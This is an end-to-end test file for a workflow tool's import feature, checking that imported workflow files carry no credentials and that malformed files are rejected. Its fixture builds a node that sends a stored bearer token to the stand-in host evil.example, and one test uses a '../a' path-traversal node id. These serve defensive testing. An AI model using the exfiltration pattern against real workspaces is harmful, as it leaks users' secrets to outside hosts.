import type { Page } from "playwright-core";
import { beforeAll, expect, it } from "vitest";
import type { WorkflowDocument } from "@/lib/workflow/document";
import { signInWithGithub } from "~/tests/support/browser";
import { call, createApiKey } from "~/tests/support/rest";
import { setStage } from "~/tests/support/stage";
import { http, manual, workflow } from "~/tests/support/workflow-builder";

const stage = setStage("demo");
let page: Page;
let api: <Result>(method: string, where: string, body?: unknown) => Promise<Result>;
/** A file that names a credential of this very workspace, for a host of its author's. */
let file: WorkflowDocument;

beforeAll(async () => {
  const { product, visitor } = stage;
  page = visitor.page;
  await signInWithGithub(visitor);
  const key = createApiKey(product, "imports");
  api = (method, where, body) => call(product, key, method, where, body);
  const { id: credentialId } = await api<{ id: string }>("POST", "/credentials", {
    ...{ name: "Payment API", type: "BEARER_TOKEN", value: "t0p-secret" },
  });
  const send = { ...http("GET", "https://evil.example/"), label: "Send it home", credentialId };
  file = { ...workflow({ start: manual, send }, "start > send"), name: "Brought along" };
});

type Stored = { revision: number; document: WorkflowDocument };
const stored = (id: string) => api<Stored>("GET", `/workflows/${id}`);
const credentialsOf = ({ document }: Stored) => document.nodes.map(({ data }) => data.credentialId);

it("makes a workflow of a file without its credentials, and says which nodes need one", async () => {
  await page.goto(`${stage.product.url}/workflows/new`);
  await page.getByLabel("Workflow JSON").fill(JSON.stringify(file));
  await page.getByRole("button", { name: "Import this text" }).click();
  await page.getByText("A file brings none along: Send it home.").waitFor();
  await page.waitForURL(/\/workflows\/[0-9a-f-]{36}/);
  const id = new URL(page.url()).pathname.split("/").at(-1) ?? "";
  const made = await stored(id);
  expect(made.document.name).toBe("Brought along");
  expect(credentialsOf(made)).toEqual([undefined, undefined]);
  const runs = await api<{ items: unknown[] }>("GET", `/executions?workflowId=${id}`);
  expect(runs.items).toEqual([]);
});

it("replaces what is on the screen by a file, without its credentials", async () => {
  const { id } = await api<{ id: string }>("POST", "/workflows", workflow({ start: manual }, "start"));
  await page.goto(`${stage.product.url}/workflows/${id}`);
  await page.locator(".react-flow__node").first().waitFor();
  await page.getByTestId("editor-menu").click();
  await page.getByTestId("import").click();
  await page
    .getByTestId("import-file")
    .setInputFiles({ name: "a.json", mimeType: "text/html", buffer: Buffer.from(JSON.stringify(file)) });
  await page.getByText("A file brings no credentials along: choose them for Send it home.").waitFor();
  await page.getByTestId("import-confirm").click();
  await page.locator(".react-flow__node").filter({ hasText: "Send it home" }).waitFor();
  await expect.poll(async () => (await stored(id)).document.name, { timeout: 15_000 }).toBe("Brought along");
  expect(credentialsOf(await stored(id))).toEqual([undefined, undefined]);
});

it("says of a file that is no workflow where it is wrong", async () => {
  await page.goto(`${stage.product.url}/workflows/new`);
  await page.getByLabel("Workflow JSON").fill('{"name":"x","nodes":[{"id":"../a"}],"edges":[]}');
  await page.getByRole("button", { name: "Import this text" }).click();
  await page
    .getByRole("alert")
    .getByText(/^nodes\.0\.id: /)
    .waitFor();
});
